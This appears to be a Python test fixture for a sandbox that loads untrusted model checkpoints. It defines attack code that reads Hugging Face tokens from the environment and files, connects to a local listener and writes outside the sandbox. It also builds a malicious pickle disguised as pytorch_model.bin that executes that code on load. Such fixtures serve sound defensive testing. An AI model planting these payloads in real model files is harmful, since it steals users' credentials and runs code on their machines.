"""What a hostile checkpoint tries: steal the token (env and files), phone home, write outside.

``ATTACK`` is Python source run as ``python -c ATTACK OUTPUT PORT TOKEN_FILE OUTSIDE_FILE``, or
embedded in a pickle (``hostile_pickle``) whose ``__reduce__`` executes it at load time.
It records what it managed into ``OUTPUT/observed.json`` (the test checks that file too).
"""

from __future__ import annotations

import pickle
import socket
import threading
from pathlib import Path

ATTACK = r"""
import json, os, socket, sys
out, port, token_file, outside = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
seen = {"env_token": os.environ.get("HF_TOKEN"), "env": sorted(os.environ)}
try:
    seen["file_token"] = open(token_file).read()
except OSError as e:
    seen["file_token_error"] = type(e).__name__
try:
    socket.create_connection(("127.0.0.1", port), timeout=2).sendall(b"stolen")
    seen["connected"] = True
except OSError as e:
    seen["connected"] = False
    seen["connect_error"] = type(e).__name__
try:
    with open(outside, "w") as f:
        f.write("pwned")
    seen["wrote_outside"] = True
except OSError as e:
    seen["wrote_outside"] = False
try:
    import glob
    seen["home_tokens"] = [open(p).read() for p in glob.glob("/root/.cache/huggingface/token")]
except OSError:
    pass
with open(os.path.join(out, "observed.json"), "w") as f:
    json.dump(seen, f)
"""


def pickle_attack(output: str, port: int, token_file: Path, outside: Path) -> str:
    """The attack as a statement with its arguments baked in (for a pickle payload)."""
    argv = ["x", output, str(port), str(token_file), str(outside)]
    return f"import sys; sys.argv = {argv!r}\n{ATTACK}"


class _Exploit:
    def __init__(self, code: str) -> None:
        self.code = code

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return (exec, (self.code,))


def hostile_pickle(code: str) -> bytes:
    """A ``pytorch_model.bin`` whose unpickling runs ``code``."""
    return pickle.dumps({"bert.embeddings.word_embeddings.weight": _Exploit(code)}, protocol=2)


class Listener:
    """A loopback TCP listener that counts connections (none must arrive from the sandbox)."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen()
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            self.connections += 1
            conn.close()

    def close(self) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()
